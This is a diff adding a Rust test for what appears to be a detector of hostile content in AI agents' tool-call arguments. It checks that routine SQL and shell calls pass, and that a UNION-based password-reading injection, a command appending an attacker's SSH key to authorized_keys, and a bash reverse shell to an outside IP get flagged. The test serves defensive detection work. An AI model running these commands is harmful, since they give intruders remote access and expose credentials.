@@ -1219,3 +1219,30 @@ fn page_handlers_in_documents_and_parameters() {
         );
     }
 }
+
+/// An agent's database and shell tools take queries and commands by
+/// design; injection shapes and hostile commands in them still count.
+#[test]
+fn tool_call_arguments() {
+    let d = detector();
+    for body in [
+        r#"{"name":"run_sql","arguments":{"query":"SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'"}}"#,
+        r#"{"jsonrpc":"2.0","method":"tools/call","params":{"name":"query","arguments":{"sql":"SELECT plan, count(*) FROM subscriptions WHERE status = 'active' GROUP BY plan"}}}"#,
+        r#"{"name":"shell","arguments":{"command":"terraform plan -out=tfplan -var-file=envs/staging.tfvars"}}"#,
+        r#"{"name":"shell","arguments":{"command":"tar czf backup-$(date +%F).tar.gz data/ config/"}}"#,
+    ] {
+        let v = d.scan(body.as_bytes());
+        assert!(!v.threat, "{body}: {:?}", v.findings);
+    }
+    for body in [
+        // The same shapes outside a tool call are a query or a command
+        // handed over in a parameter.
+        r#"{"query":"SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'"}"#,
+        r#"{"name":"run_sql","arguments":{"query":"SELECT name FROM products WHERE id = 1 UNION SELECT password FROM users"}}"#,
+        r#"{"name":"shell","arguments":{"command":"npm test; echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys"}}"#,
+        r#"{"name":"shell","arguments":{"command":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}}"#,
+    ] {
+        let v = d.scan(body.as_bytes());
+        assert!(v.threat, "{body}");
+    }
+}
